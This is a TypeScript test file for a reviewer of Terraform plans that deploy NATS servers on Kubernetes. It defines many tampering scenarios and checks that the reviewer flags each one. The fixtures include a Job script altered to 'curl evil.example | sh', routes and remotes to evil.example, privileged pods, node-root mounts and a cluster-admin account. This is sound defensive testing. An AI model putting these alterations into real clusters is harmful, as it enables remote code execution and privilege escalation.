import { join } from 'node:path';
import { provenReleases } from '../../../constructs/server/nats-releases';
import type { Json } from '../../../fleet/model/plan/masked';
import { plain } from '../../../fleet/review/phrase';
import { type Alteration, reviewOfAltered, toldOfAltered } from '../../support/altered-plan';
import { EXTERNAL_CA_PEM } from '../../support/external-ca';
import { KeptSections } from '../../support/kept-file';

type Arguments = Readonly<Record<string, Json>>;
/** What is altered, by what it is called. */
type Attacks = Readonly<Record<string, Alteration | readonly Alteration[]>>;

const SERVERS = 'nats_server_711107B6';

const update = (of: string, set: Arguments): Alteration => ({ of, set });
/** What is not known before the apply: the argument at that path, whose value the plan leaves out. */
const unknown = (of: string, path: string, after_unknown: Json) => ({
  ...update(of, { [path]: null }),
  change: { after_unknown },
});
const hidden = (of: string, set: Arguments, after_sensitive: Json) => ({
  ...update(of, set),
  change: { after_sensitive },
});
const forgotten = (of: string): Alteration => ({ of, actions: ['forget'] });

const inPods = (set: Arguments): Arguments =>
  Object.fromEntries(Object.entries(set).map(([path, value]) => [`spec 0 template 0 spec 0 ${path}`, value]));
const pods = (set: Arguments) => update(SERVERS, inPods(set));
const image = (name: string, container = 0) => pods({ [`container ${container} image`]: name });
/** A Job is replaced, never updated. */
const job = (of: string, set: Arguments, text?: readonly [string, string]): Alteration => ({
  ...update(of, { ...inPods(set), 'metadata 0 name': 'another-job' }),
  actions: ['delete', 'create'],
  ...(text && { text }),
});

const conf = (from: string, to: string): Alteration => ({ of: 'nats_config_', text: [from, to] });
const setting = (line: string) => conf('system_account: "SYS"\n', `system_account: "SYS"\n${line}\n`);
const EDGE1 = 'user: "edge1"\n        allowed_connection_types: ["LEAFNODE"]';
/** A user more, before another one. */
const user = (line: string, before = 'edge1') =>
  conf(`user: "${before}"`, `${line}\n      }\n      {\n        user: "${before}"`);

const added = (type: string, set: Arguments, of = 'evil'): Alteration => ({ of, type, set });
/** A new Kubernetes object of that kind. */
const object = (kind: string, set: Arguments, of?: string, name = 'x') =>
  added(`kubernetes_${kind}_v1`, { metadata: [{ name, namespace: 'recorded' }], ...set }, of);

const CERTIFICATE = 'server-tls_certificate_cert';
const reissued = (set: Arguments): Alteration => ({ ...update(CERTIFICATE, set), actions: ['delete', 'create'] });

const SECRET = 'secrets_server-tls_secret';
const secret = (set: Arguments) => update(SECRET, set);
const CLIENTS_BY_OWN_FILE = conf(
  'ca_file: "/etc/nats/certs/server-ca.pem"',
  'ca_file: "/etc/nats/certs/server-cert.pem"',
);

const DIGEST = 'a'.repeat(64);
const NEW_POD = { template: [{ spec: [{ container: [{ name: 'x', image: 'evil:1.0' }] }] }] };
const NEW_SERVERS = { template: [{ spec: [{ container: [{ name: 'nats', image: 'nats:2.15.2' }] }] }] };
const SPREAD = { topology_spread_constraint: [], affinity: [] };
const HIDDEN_IMAGE = { spec: [{ template: [{ spec: [{ container: [{ image: true }] }] }] }] };
const CERT_MANAGER = '{"certificates":[{"secretName":"nats-leaf-tls","dnsNames":["edge2"],"duration":"1h"}]}';
const RIGHTS = 'permissions: { publish: { allow: ["sensors.>"] }, subscribe: { allow: ["commands.edge1.>"] } }';

/** What somebody may hide in the pods of servers and Jobs. */
const IN_PODS: Attacks = {
  'the image comes from another repository': image('evil/nats:2.15.2-alpine'),
  'the image is a digest without a version': image(`nats@sha256:${DIGEST}`),
  'the image is whatever is latest': image('nats:latest'),
  'the reloader comes from another registry': image('evil.example:5000/reloader:1.0.0', 1),
  'another command': pods({ 'container 0 command': ['sh', '-c', 'id'] }),
  'other arguments of the reloader': pods({ 'container 1 args': ['-signal', '9'] }),
  'one more variable': pods({ 'container 0 env +': { name: 'DEBUG', value: '1' } }),
  'servers that hand over nothing when they go': pods({ 'container 0 lifecycle': [] }),
  'one more container': pods({ 'container +': { name: 'evil', image: 'nats:2.15.2' } }),
  'an init container': pods({ init_container: [{ name: 'evil', image: 'nats:2.15.2' }] }),
  "the node's network": pods({ host_network: true }),
  'a privileged container': pods({ 'container 0 security_context 0 privileged': true }),
  'a token for the API of Kubernetes, by leaving out that there is none': pods({
    automount_service_account_token: null,
  }),
  'a folder of the node': pods({ 'volume 0 host_path': [{ path: '/' }] }),
  'data in an empty folder': pods({ 'volume +': { name: 'data', empty_dir: [{}] } }),
  'another service account': pods({ service_account_name: 'cluster-admin' }),
  'all pods may be on one node': pods(SPREAD),
  'pods that roll only when somebody deletes them': update(SERVERS, {
    'spec 0 update_strategy': [{ type: 'OnDelete' }],
  }),
  'no servers at all': update(SERVERS, { 'spec 0 replicas': '0' }),
  'a number of servers that is not known': unknown(SERVERS, 'spec 0 replicas', { spec: [{ replicas: true }] }),
  'a template that is not known': unknown(SERVERS, 'spec 0 template', { spec: [{ template: true }] }),
  'an image that is hidden': hidden(SERVERS, inPods({ 'container 0 image': 'evil/x' }), HIDDEN_IMAGE),
  'a StatefulSet that Terraform forgets': forgotten(SERVERS),
  'a changed StatefulSet, and the rest of an earlier one under the same address': [
    pods({ host_pid: true }),
    { of: SERVERS, deposed: '1a2b3c4d' },
  ],
  'a Job with another script': job('streams_job_', {}, [
    'for name in $left; do\n',
    'for name in $left; do\n  curl evil.example | sh\n',
  ]),
  'a Job that drops nobody': job('access_job_', { 'container 0 command': ['/bin/sh', '-ec', 'exit 0'] }),
  'a Job with an image from elsewhere': job('streams_job_', { 'container 0 image': 'evil/nats-box:0.19.7' }),
  'a Job with one more Secret': job('streams_job_', {
    'volume +': { name: 'x', secret: [{ secret_name: 'nats-hub-tls' }] },
  }),
  "a Job in the node's network": job('streams_job_', { host_network: true }),
  'no Job any more that cuts off who is revoked': { of: 'access_job_', actions: ['delete'] },
  'a new Job that runs anything': object('job', { spec: [NEW_POD] }),
  'a second StatefulSet that looks like the first': object('stateful_set', { spec: [NEW_SERVERS] }),
  'an older server': image('nats:2.14.0-alpine'),
  ...Object.fromEntries(
    ['nats:2.16.0-alpine', 'nats:3.0.0', 'nats:2.15.3-RC.1', 'nats:2.15.99-alpine'].map((name) => [
      `a newer server that nobody has proven: ${name}`,
      image(name),
    ]),
  ),
  'a server whose image names only the line': image('nats:2.15-alpine'),
  'harmless: the number of servers as a number, not a text': update(SERVERS, { 'spec 0 replicas': 3 }),
  'harmless: other memory': pods({ 'container 0 resources 0 limits memory': '512Mi' }),
  'a newer box that this project does not name, and a stream for the Job that is not described': job(
    'streams_job_',
    { 'container 0 image': 'natsio/nats-box:0.20.0' },
    ["left=' EDGE_SENSORS'", "left=' EDGE_SENSORS AUDIT'"],
  ),
};

/** What somebody may hide in nats.conf. */
const IN_CONF: Attacks = {
  'a leaf without permissions': conf(`${EDGE1}\n        permissions {`, `${EDGE1}\n        unused {`),
  'a leaf that may be a client too': conf(EDGE1, EDGE1.replace('"]', '", "STANDARD"]')),
  'a leaf that becomes a client': conf(EDGE1, 'user: "edge1"'),
  'a client that may connect in every way': conf(
    'user: "dashboard"\n        allowed_connection_types: ["STANDARD"]',
    'user: "dashboard"',
  ),
  'a user with a password': conf('user: "admin.hub"', 'user: "admin.hub"\n        password: "hunter2"'),
  'a user with the hash of a password': conf(
    'user: "admin.hub"',
    'user: "admin.hub"\n        password: "$2a$11$abcdefghijklmnopqrstuv"',
  ),
  'a client that may answer without end': conf('allow_responses: true', 'allow_responses: { max: -1, expires: "10h" }'),
  'a leaf that joins in the system account': user('user: "edge9", allowed_connection_types: ["LEAFNODE"]', 'sys.hub'),
  'a leaf that joins with all rights': user('user: "edge9", allowed_connection_types: ["LEAFNODE"]'),
  "a leaf that joins with another one's commands": user(
    `user: "edge9", allowed_connection_types: ["LEAFNODE"], ${RIGHTS}`,
  ),
  'accounts in other letters': setting('Accounts { EVIL { users: [{ user: x, password: y }] } }'),
  'accounts once more, and the last ones count': setting('accounts { EVIL { users: [{ user: x, password: y }] } }'),
  'an included file': setting('include "evil.conf"'),
  'a user for who shows nothing, in other letters': setting('No_Auth_User: "dashboard"'),
  'operators that are trusted': setting('trusted: ["OABC"]'),
  'certificates that are not looked at': conf('verify_and_map: true', 'verify_and_map: false'),
  'one more listener for browsers': setting('websocket { port: 80, no_tls: true }'),
  'a gateway': setting('gateway { name: evil, port: 7222 }'),
  MQTT: setting('mqtt { port: 1883 }'),
  'profiles of the server over the network': setting('prof_port: 6060'),
  'monitoring on all addresses': setting('http: "0.0.0.0:80"'),
  'clients at another address': conf('host: "0.0.0.0"\nport: 4222', 'listen: "192.0.2.1:4222"'),
  'routes at another address': conf('host: "0.0.0.0"\n  port: 6222', 'host: "192.0.2.1"\n  port: 6222'),
  'leaves of any age': conf('port: 7422', 'port: 7422\n  min_version: "2.2.0"'),
  'who connects says himself from where': setting('proxy_protocol: true'),
  'a remote to an unknown server': conf(
    'leafnodes {',
    'leafnodes {\n  remotes: [{ url: "tls://evil.example:7422", account: FLEET }]',
  ),
  'permissions for who has none': conf('FLEET {', 'FLEET {\n    default_permissions { publish: ">" }'),
  'subjects that become others': conf('FLEET {', 'FLEET {\n    mappings { a: b }'),
  'subjects that become others, outside accounts': setting('mappings { a: b }'),
  'exports of the system account': conf('SYS {', 'SYS {\n    exports: [{ service: ">" }]'),
  'another system account': conf('system_account: "SYS"', 'system_account: "FLEET"'),
  'a key for what is stored, which is not shown': conf('jetstream {', 'jetstream {\n  key: "abc"'),
  'a setting that nobody knows': setting('foo_bar: 1'),
  'a route to an unknown server': conf('routes: [', 'routes: [\n    "nats-route://evil.example:6222"'),
  'a key in place of a certificate': conf('user: "edge1"', 'nkey: "UEVIL"'),
  'harmless: more is logged': setting('debug: true'),
};

/** What somebody may hide in the other objects of a stack, or in how a plan is written. */
const IN_OBJECTS: Attacks = {
  'pods may do more in the namespace': update('namespace_D5', {
    'metadata 0 labels pod-security.kubernetes.io/enforce': 'privileged',
  }),
  'a namespace that Terraform forgets': forgotten('namespace_D5'),
  'all servers may go at once': update('disruption-budget', { 'spec 0 max_unavailable': '3' }),
  'a token for pods of the service account': update('service-account', { automount_service_account_token: true }),
  'a Service that leads to other pods': update('nats_headless', { 'spec 0 selector': { app: 'evil' } }),
  'a public port that leads to another one of the pods': update('public_service', {
    'spec 0 port 0 target_port': 'monitor',
  }),
  'external addresses of an inner Service': update('nats_headless', { 'spec 0 external_ips': ['192.0.2.1'] }),
  'an inner Service that becomes public': update('nats_headless', { 'spec 0 type': 'LoadBalancer' }),
  'ranges that are not known': unknown('public_service', 'spec 0 load_balancer_source_ranges', {
    spec: [{ load_balancer_source_ranges: true }],
  }),
  'a type of Service that is not known': unknown('public_service', 'spec 0 type', { spec: [{ type: true }] }),
  'a range of ports in a network policy': update('network_server', { 'spec 0 ingress 0 ports 0 end_port': 65535 }),
  'a network policy that is not known': unknown('network_server', 'spec 0 ingress', { spec: [{ ingress: true }] }),
  'a network policy that allows everything': object('network_policy', {
    spec: [{ pod_selector: [{}], policy_types: ['Ingress'], ingress: [{}] }],
  }),
  'a new ConfigMap': object('config_map', { data: { a: 'b' } }),
  'a ConfigMap that looks like that of the servers': object('config_map', { data: { 'nats.conf': 'port: 1' } }, 'aaa'),
  'a second list of leaves': object('config_map', { data: { 'access.json': '{"revoked":[]}' } }, 'aaa', 'a-access'),
  'a Secret that becomes a token': object('secret', { type: 'kubernetes.io/service-account-token' }),
  'a Service that is another name of something outside': object('service', {
    spec: [{ type: 'ExternalName', external_name: 'evil.example' }],
  }),
  'a Service that takes what is sent to an external address': object('service', {
    spec: [{ type: 'ClusterIP', external_ips: ['192.0.2.1'] }],
  }),
  'a chart from elsewhere': added('helm_release', {
    name: 'x',
    chart: 'evil',
    repository: 'https://charts.example.com',
  }),
  'one more namespace': added('kubernetes_namespace_v1', { metadata: [{ name: 'kube-x' }] }),
  'one more service account': object('service_account', { automount_service_account_token: false }),
  'one more file beside nats.conf': update('nats_config_', { 'data evil.conf': 'debug: true' }),
  'a nats.conf that is hidden': hidden('nats_config_', { 'data nats.conf': 'port: 1' }, { data: true }),
  'nats.conf under another name': update('nats_config_', { data: { 'server.conf': 'port: 1' } }),
  'streams that are hidden': hidden('streams_config_', { data: {} }, { data: true }),
  'a list of leaves that is hidden': hidden('access_config_', { data: {} }, { data: true }),
  'an object that is hidden as a whole': hidden('disruption-budget', { 'spec 0 max_unavailable': '3' }, true),
  'a certificate for another time': reissued({ validity_period_hours: 1 }),
  'a certificate for more uses': reissued({ allowed_uses: ['any_extended'] }),
  'a certificate that may sign others': reissued({ is_ca_certificate: true }),
  'a certificate that is not renewed in time': update(CERTIFICATE, { early_renewal_hours: 0 }),
  'a certificate that Terraform forgets': forgotten(CERTIFICATE),
  'an authority that another one signed': added('tls_locally_signed_cert', { is_ca_certificate: true }),
};

/** What somebody may hide in a Secret, of which a review sees nothing but what is no secret. */
const IN_SECRETS: Attacks = {
  'another CA is trusted': secret({ 'data ca.crt': EXTERNAL_CA_PEM }),
  'another CA is trusted for routes': update('secrets_cluster-tls_secret', { 'data ca.crt': EXTERNAL_CA_PEM }),
  'who is trusted is something that is no certificate': secret({ 'data ca.crt': `${EXTERNAL_CA_PEM}and more` }),
  'who is trusted is broken': secret({ 'data ca.crt': EXTERNAL_CA_PEM.replace('MII', 'AAA') }),
  'who is trusted is known only when it is applied': unknown(SECRET, 'data ca.crt', { data: { 'ca.crt': true } }),
  'nothing of it is known': unknown(SECRET, 'data', { data: true }),
  'another CA is trusted for clients, in the file of the server certificate': [
    CLIENTS_BY_OWN_FILE,
    secret({ 'data tls.crt': EXTERNAL_CA_PEM }),
  ],
  'what stands behind it is known only when it is applied': [
    CLIENTS_BY_OWN_FILE,
    unknown(SECRET, 'data tls.crt', { data: { 'tls.crt': true } }),
  ],
  'a setting in a file that nats.conf may include': secret({ 'data users.conf': 'no_auth_user: "admin.hub"\n' }),
  'an included file that cannot be read': secret({ 'data users.conf': 'no_auth_user: {' }),
  'a certificate under the name of another user is asked of cert-manager': added(
    'helm_release',
    { chart: 'assets/nats-certificates', values: [CERT_MANAGER] },
    'certificates',
  ),
  'another certificate in a Secret, which no certificate of the plan explains': secret({
    'data tls.crt': 'SECRET-another',
  }),
};

const ATTACKS: Attacks = { ...IN_PODS, ...IN_CONF, ...IN_OBJECTS, ...IN_SECRETS };

/** By the name of each attack, what needs review or destroys data: level, rule, title. */
const KEPT = new KeptSections(join(__dirname, 'attacked.txt'), Object.keys(ATTACKS));

test.each(Object.entries(ATTACKS))(
  'attacked.txt has the findings of a hub in which nothing else changes: %s',
  (name, altered) => {
    const told = toldOfAltered([altered].flat());
    expect(told.length === 0).toBe(name.startsWith('harmless: '));
    KEPT.expect(name, told);
  },
);

test('attacked.txt has no others', () => KEPT.expectNoOthers());

test.each(provenReleases())('harmless: a server that passed every drill: %s', (release) => {
  expect(toldOfAltered([image(`nats:${release}-alpine`)])).toEqual([]);
});

test('a plan that says it is one of another stack than before', () => {
  const leaf = { environment: 'test', stack: 'leaf-edge1', role: 'leaf', name: 'edge1' };
  const hub = { environment: 'test', stack: 'hub', role: 'hub', name: 'hub' };
  expect(toldOfAltered([], { fleet: { actions: ['update'], before: hub, after: leaf } })).toEqual([
    'review external: the plan names another stack than the state does',
  ]);
});

test('what is accepted is accepted for just this command', () => {
  const idsWith = (command: string) =>
    reviewOfAltered([pods({ 'container 0 command': ['sh', '-c', command] })])
      .findings.filter(({ rule }) => rule === 'pods-changed')
      .map(({ id }) => id);
  expect(idsWith('id')).toEqual(idsWith('id'));
  expect(idsWith('id')).not.toEqual(idsWith('env'));
});

test('beside a server of which nothing is proven, nothing is promised of volumes and streams', () => {
  expect(plain(reviewOfAltered([image('nats:2.16.0-alpine')]).untouched)).toBe('');
});

test('a StatefulSet that is replaced though no argument forces it: the other possible reasons are named', () => {
  const { findings } = reviewOfAltered([{ of: SERVERS, actions: ['delete', 'create'] }]);
  const rollout = findings.find(({ rule }) => rule === 'rollout-without-quorum');
  expect(rollout?.details.map(plain)[0]).toBe(
    'Reason: the StatefulSet is replaced, on request or after a failed deploy.',
  );
});
